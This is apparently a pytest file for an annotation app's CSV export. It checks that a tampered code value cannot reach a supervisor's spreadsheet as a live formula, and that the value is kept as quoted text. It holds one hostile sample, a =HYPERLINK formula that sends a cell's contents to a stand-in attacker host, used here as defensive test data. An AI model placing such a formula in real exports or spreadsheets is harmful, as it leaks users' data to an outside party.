"""A code written around the app is neutralised in every CSV layout (issue 14).

In a team project a coder can write her own rows with psql, and anyone can edit a
file project; a code cell such as =HYPERLINK(...) must reach the supervisor's CSV as
text, never as a live formula.
"""

from __future__ import annotations

import csv
import io

import pytest
from sqlmodel import select

from annotator.core.coding import service as coding
from annotator.core.coding.lookups import list_units
from annotator.core.csv_dialect import FORMULA_TRIGGERS
from annotator.core.export import LAYOUTS, ExportOptions, export_csv_stream
from annotator.core.store.models import Code

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def tampered(sample_project):
    units = [u for u in list_units(sample_project) if u.kind == "sentence"]
    for coder in ("ann", "bob"):
        coding.apply_codes(sample_project, coder, units[0].id, {"attribution": "named_person"})
    with sample_project.writing() as session:  # as psql or a file editor would
        code = session.exec(select(Code).where(Code.field == "attribution")).first()
        code.code = HOSTILE
        session.add(code)
    return sample_project


def _cells(project, layout: str, values: str) -> list[str]:
    stream = io.BytesIO()
    export_csv_stream(project, stream, ExportOptions(layout, values))
    rows = csv.reader(io.StringIO(stream.getvalue().decode("utf-8-sig")))
    return [cell for row in rows for cell in row]


@pytest.mark.parametrize("layout", LAYOUTS)
@pytest.mark.parametrize("values", ["codes", "values", "labels"])
def test_no_cell_of_any_layout_is_a_live_formula(tampered, layout, values):
    cells = _cells(tampered, layout, values)
    live = [c for c in cells if c and c[0] in FORMULA_TRIGGERS and not _is_number(c)]
    assert live == []


def test_the_tampered_code_is_kept_as_text_not_dropped(tampered):
    assert "'" + HOSTILE in _cells(tampered, "long", "codes")


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
